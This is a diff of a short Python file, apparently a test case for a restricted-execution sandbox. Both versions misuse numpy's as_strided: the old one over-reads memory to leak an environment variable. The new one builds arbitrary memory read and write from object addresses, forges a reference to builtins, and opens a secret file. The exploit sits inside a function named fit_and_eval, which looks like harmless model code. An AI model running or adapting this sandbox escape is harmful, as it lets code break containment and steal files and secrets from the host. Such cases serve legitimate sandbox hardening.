@@ -1,13 +1,21 @@
-"""Reads memory beyond an array by strides of its own."""
-# wants: inside
-# allows: numpy numpy.lib.stride_tricks
+"""Reaches any memory by the strides of an array, and writes an object where none was."""
+# wants: read
+# allows: numpy
 
 import numpy as np
 from numpy.lib.stride_tricks import as_strided
 
+own = bytes(8)
+
+
+def word(address):
+    start = np.frombuffer(own, dtype="u8")
+    return int(as_strided(start, shape=(2,), strides=(address - id(own) - 32,))[1])
+
 
 def fit_and_eval(data):
-    text = b"".join([b"inner=", __import__("os").environb[b"STAGE_INNER"], b";"])
-    small = np.frombuffer(text, dtype="u1")[:1]
-    beyond = bytes(as_strided(small, shape=(64,), strides=(1,)))
-    return {"got": beyond.decode(errors="replace")}
+    held = np.array([None], dtype=object)
+    start = np.zeros(1, dtype="u8")
+    far = word(id(held) + 16) - word(id(start) + 16)
+    as_strided(start, shape=(2,), strides=(far,))[1] = word(id(len) + 24)
+    return {"got": held[0].open(data["secret"]).read()}
